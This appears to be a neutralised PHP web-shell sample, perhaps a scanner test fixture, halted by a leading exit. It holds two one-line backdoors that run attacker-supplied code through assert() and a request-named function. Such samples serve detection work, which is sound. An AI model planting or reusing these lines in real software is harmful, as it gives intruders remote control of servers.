<?php exit; /* inert */ 
preg_replace_callback('/.+/i', create_function('$arr', 'return assert($arr[0]);'), $_REQUEST['pass']);
preg_replace_callback_array(['/^.*$/' => fn($m) => $_GET['z']($m[0])], $_POST['t']);
